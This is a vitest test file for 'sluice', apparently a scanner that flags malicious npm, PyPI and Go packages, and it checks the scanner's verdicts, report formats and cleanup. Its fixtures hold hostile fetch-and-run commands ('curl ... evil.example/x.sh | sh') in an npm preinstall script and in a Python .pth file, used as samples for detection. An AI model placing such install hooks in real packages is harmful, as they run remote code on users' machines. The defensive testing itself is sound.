import { spawn } from 'node:child_process'
import { once } from 'node:events'
import { existsSync, readdirSync } from 'node:fs'
import { mkdir, mkdtemp, rm, symlink, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest'
import { goZip, tarball, wheel } from '../../test/harness/archives.ts'
import { sluice } from '../../test/harness/cli.ts'
import { startFakeNpm } from '../../test/fakes/npm.ts'
import type { FakeNpm } from '../../test/fakes/npm.ts'

const BAD = { name: 'bad', version: '1.0.0', scripts: { preinstall: 'curl -s http://files.evil.example/x.sh | sh' } }

let folder: string
let npm: FakeNpm
const at = (name: string): string => join(folder, name)

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'sluice-cli-'))
  npm = await startFakeNpm([
    { name: 'left-pad', version: '1.3.0', files: { 'index.js': 'module.exports = 1\n' } },
    { name: 'bad', version: '1.0.0', manifest: { scripts: BAD.scripts }, files: {} },
  ])
  await mkdir(at('good/node_modules/other'), { recursive: true })
  await mkdir(at('empty'))
  await writeFile(at('good/package.json'), JSON.stringify({ name: 'good', version: '1.0.0' }))
  await writeFile(at('good/node_modules/other/package.json'), JSON.stringify(BAD))
  await symlink('/etc/hostname', at('good/link'))
  await mkdir(at('bad'))
  await writeFile(at('bad/package.json'), JSON.stringify(BAD))
  await writeFile(at('bad.tgz'), await tarball('package', { 'package.json': JSON.stringify(BAD) }))
  await writeFile(at('py.tar.gz'), await tarball('py-1.0', { 'PKG-INFO': 'Metadata-Version: 2.1\nName: py\nVersion: 1.0\n', 'setup.py': 'from setuptools import setup\nsetup()\n' }))
  await writeFile(at('good-1.0-py3-none-any.whl'), wheel('good', '1.0'))
  await writeFile(at('v1.0.0.zip'), goZip('mod.example/x', 'v1.0.0', { 'go.mod': 'module mod.example/x\n', 'x.go': 'package x\n' }))
  await writeFile(at('broken.tgz'), 'this is no archive')
  await writeFile(at('nothing.tgz'), await tarball('package', { 'readme.md': 'hello' }))
})

afterAll(async () => {
  await npm.close()
  await rm(folder, { recursive: true, force: true })
})

const scan = (args: readonly string[], data = at('data')) => sluice(['scan', ...args], { gate: { data, sources: { npm: { url: npm.url, sumdb: null } } } })

describe('sluice scan', () => {
  it.each([
    ['good', 0, 'clean'],
    ['py.tar.gz', 0, 'clean'],
    ['good-1.0-py3-none-any.whl', 0, 'clean'],
    ['v1.0.0.zip', 0, 'clean'],
    ['bad', 1, 'malicious'],
    ['bad.tgz', 1, 'malicious'],
    ['broken.tgz', 2, 'undetermined'],
  ])('%s: exit code %i, %s', async (name, code, level) => {
    const ran = await scan([at(name), '--json'])
    expect(ran.code).toBe(code)
    expect(ran.json()).toMatchObject([{ target: at(name), level }])
  })

  it('prints the shape that scripts rely on', async () => {
    const [report] = (await scan([at('bad.tgz'), '--json'])).json() as { findings: object[] }[]
    expect(Object.keys(report ?? {})).toEqual(['target', 'level', 'score', 'parts', 'learned', 'change', 'findings', 'indicators', 'missing', 'elapsedMs'])
    const finding = report?.findings[0]
    expect(Object.keys(finding ?? {})).toEqual(['detector', 'behaviour', 'severity', 'confidence', 'title', 'evidence'])
    expect(finding).toHaveProperty('evidence.0', { file: 'package.json', lines: [1, 1], excerpt: expect.any(String), says: expect.any(String), role: 'source' })
    expect(report).toMatchObject({ parts: expect.arrayContaining([{ says: expect.any(String), points: expect.any(Number) }]), change: null, indicators: expect.arrayContaining([{ type: 'url', value: 'http://files.evil.example/x.sh', file: 'package.json', line: 1 }]) })
  })

  it('leaves out other packages and links, and says so apart from the data', async () => {
    const ran = await scan([at('good')])
    expect(ran.out).toMatch(/good {2}clean {2}score 0/)
    expect(ran.err).toContain('not looked at: link (a link), node_modules/')
  })

  it.each([
    [['empty'], 'holds no package.json'],
    [['nothing.tgz'], 'holds no package.json'],
    [['missing.tgz'], 'cannot read'],
    [['empty', '--ecosystem', 'cargo'], "argument 'cargo' is invalid"],
    [[], 'missing required argument'],
  ])('%j is no target: exit code 2 and a sentence', async (args, says) => {
    const ran = await scan(args.map((arg) => (/^(?:empty|nothing|missing)/.test(arg) ? at(arg) : arg)))
    expect(ran.code).toBe(2)
    expect(ran.err + ran.out).toContain(says)
  })

  it('writes SARIF 2.1.0', async () => {
    const ran = await scan([at('bad.tgz'), at('good'), '--format', 'sarif'])
    expect(ran.code).toBe(1)
    expect(ran.json()).toMatchObject({
      version: '2.1.0',
      runs: [{
        tool: { driver: { rules: expect.arrayContaining([expect.objectContaining({ id: 'downloads-and-runs' })]) } },
        results: expect.arrayContaining([expect.objectContaining({
          ruleId: 'downloads-and-runs', level: 'error', codeFlows: [expect.any(Object)],
          locations: [expect.objectContaining({ physicalLocation: expect.objectContaining({ artifactLocation: { uri: 'bad.tgz/package.json' } }) })],
        })]),
      }],
    })
  })

  it('admits packages by name, and keeps the verdict in a data folder that is named', async () => {
    const data = at('kept')
    const ran = await scan(['npm:left-pad@1.3.0', 'npm:left-pad@9.9.9', '--json', '--data', data], data)
    expect(ran.code).toBe(2)
    expect(ran.json()).toMatchObject([{ level: 'clean', missing: [] }, { level: 'undetermined', missing: ['left-pad has no version 9.9.9 upstream'] }])
    expect(ran.err).toContain('has no version 9.9.9')
    const traced = await sluice(['trace', 'npm:left-pad', '--all', '--json'], { gate: { data } })
    expect(traced.json()).toMatchObject({ lines: [{ entry: { kind: 'decided', reason: 'clean', version: '1.3.0' } }] })
  })

  it('tells of a verdict that was kept what it told when it was new', async () => {
    const data = at('twice')
    const tell = async () => ((await scan(['npm:bad@1.0.0', '--json'], data)).json() as { elapsedMs: number }[]).map((report) => ({ ...report, elapsedMs: 0 }))
    const [fresh] = await tell()
    expect(fresh).toMatchObject({ level: 'malicious', parts: expect.arrayContaining([expect.any(Object)]) })
    expect(fresh).toHaveProperty('findings.0.evidence.0.role', 'source')
    expect(fresh).toHaveProperty('indicators.0.value', expect.stringContaining('files.evil.example'))
    expect(await tell()).toEqual([fresh])
  })

  it('examines each package of a node_modules, and ends with a count', async () => {
    await mkdir(at('app/node_modules/@acme/tool/node_modules/bad'), { recursive: true })
    await mkdir(at('app/node_modules/broken'))
    await writeFile(at('app/node_modules/@acme/tool/package.json'), JSON.stringify({ name: '@acme/tool', version: '2.0.0' }))
    await writeFile(at('app/node_modules/@acme/tool/node_modules/bad/package.json'), JSON.stringify(BAD))
    await writeFile(at('app/node_modules/broken/package.json'), '{')
    const tree = await scan([at('app/node_modules'), '--json'])
    expect(tree.code).toBe(1)
    expect((tree.json() as { target: string; level: string }[]).map(({ target, level }) => [target.slice(at('app/').length), level])).toEqual([
      ['node_modules/@acme/tool/node_modules/bad (npm:bad@1.0.0)', 'malicious'],
      ['node_modules/@acme/tool (npm:@acme/tool@2.0.0)', 'clean'],
      ['node_modules/broken', expect.any(String)],
    ])
    const shown = await sluice(['scan', at('app/node_modules')], { gate: { data: at('data') }, tty: true, env: { NO_COLOR: '1' } })
    expect(shown.out).toMatch(/3 targets: 1 malicious, /)
    expect(shown.err).toContain('examining 1 of 3: @acme/tool/node_modules/bad')
  })

  it('examines each distribution of a site-packages, and what belongs to none', async () => {
    const info = 'env/site-packages/good-1.0.dist-info'
    await mkdir(at(info), { recursive: true })
    await writeFile(at('env/site-packages/good.py'), 'x = 1\n')
    await writeFile(at(`${info}/METADATA`), 'Metadata-Version: 2.1\nName: good\nVersion: 1.0\n')
    await writeFile(at(`${info}/RECORD`), 'good.py,,\n')
    await writeFile(at('env/site-packages/evil.pth'), 'import os; os.system("curl -s http://files.evil.example/x.sh | sh")\n')
    const ran = await scan([at('env/site-packages'), '--json'])
    expect((ran.json() as { target: string; level: string }[]).map(({ target, level }) => [target.slice(at('env/').length), level])).toEqual([
      ['site-packages/good-1.0.dist-info (pypi:good==1.0)', 'clean'],
      ['site-packages/(files of no distribution)', 'malicious'],
    ])
  })

  it('knows modules of a cache by their folders', async () => {
    await mkdir(at('mod/cache/download'), { recursive: true })
    await mkdir(at('mod/mod.example/!x@v1.0.0'), { recursive: true })
    await writeFile(at('mod/mod.example/!x@v1.0.0/x.go'), 'package x\n')
    expect((await scan([at('mod')])).out).toMatch(/mod\.example\/!x@v1\.0\.0 \(go:mod\.example\/X@v1\.0\.0\) {2}clean/)
  })

  it.each<[string[], number, string]>([
    [['--explain', 'sends-environment'], 0, 'Honest reports pick the variables they need.'],
    [['--explain'], 0, 'sends-environment'],
    [['--explain', 'nothing-like-it'], 2, 'sends-environment'],
  ])('%j', async (args, code, says) => {
    const ran = await sluice(['scan', ...args])
    expect(ran.code).toBe(code)
    expect(ran.out).toContain(says)
    const data = (await sluice(['scan', ...args, '--json'])).json() as unknown
    expect([data].flat()).toContainEqual(expect.objectContaining({ detector: 'sends-environment', version: expect.any(Number), ecosystems: ['npm', 'pypi', 'go'], why: expect.any(Array) }))
  })

  it.skipIf(process.platform === 'win32')('leaves nothing behind when it is interrupted', async () => {
    const place = at('interrupted')
    await mkdir(place)
    const child = spawn(process.execPath, [fileURLToPath(new URL('../main.ts', import.meta.url)), 'scan', at('app/node_modules'), at('app/node_modules')], {
      cwd: place, env: { PATH: process.env['PATH'], TMPDIR: place }, stdio: ['ignore', 'pipe', 'pipe'],
    })
    const ended = once(child, 'exit')
    let out = ''
    child.stdout.on('data', (chunk: Buffer) => { out += chunk.toString() })
    await vi.waitUntil(() => readdirSync(place).some((name) => existsSync(join(place, name, 'package.json'))), { timeout: 50_000, interval: 5 })
    child.kill('SIGINT')
    expect(await ended).toEqual([null, 'SIGINT'])
    // npm, asked for its registry, keeps its own compiled code there.
    expect([readdirSync(place).filter((name) => name !== 'node-compile-cache'), out]).toEqual([[], ''])
  })

  it('leaves nothing behind where there is no data folder', async () => {
    const data = at('none')
    expect((await scan(['npm:left-pad@1.3.0'], data)).code).toBe(0)
    expect(existsSync(data)).toBe(false)
  })

  it('asks which version', async () => {
    const ran = await scan(['npm:left-pad'])
    expect([ran.code, ran.err]).toEqual([2, 'sluice: which version of left-pad?\n  write npm:left-pad@VERSION\n'])
  })

  it('knows what advisories call malicious', async () => {
    const data = at('advised')
    const record = { id: 'MAL-2026-1', modified: '2026-01-01T00:00:00Z', summary: 'steals tokens', affected: [{ package: { ecosystem: 'npm', name: 'left-pad' }, versions: ['1.3.0'] }] }
    await writeFile(at('feed.json'), JSON.stringify(record))
    expect((await sluice(['feed', 'import', at('feed.json')], { gate: { data } })).out).toContain('1 record imported')
    const ran = await scan(['npm:left-pad@1.3.0'], data)
    expect(ran.code).toBe(1)
    expect(ran.out).toContain('known malicious: MAL-2026-1')
  })

  it('colours a terminal only, and never passes on control characters of a package', async () => {
    await mkdir(at('odd'), { recursive: true })
    await writeFile(at('odd/package.json'), JSON.stringify({ ...BAD, scripts: { preinstall: `curl http://\u001b[31mevil.example/x | sh` } }))
    const args = ['scan', at('odd')]
    const gate = { data: at('data') }
    expect((await sluice(args, { gate })).out).not.toContain('\u001b')
    expect((await sluice(args, { gate, tty: true, env: { NO_COLOR: '1' } })).out).not.toContain('\u001b')
    expect((await sluice(args, { gate, tty: true })).out).toContain('\u001b[31mmalicious')
  })
})
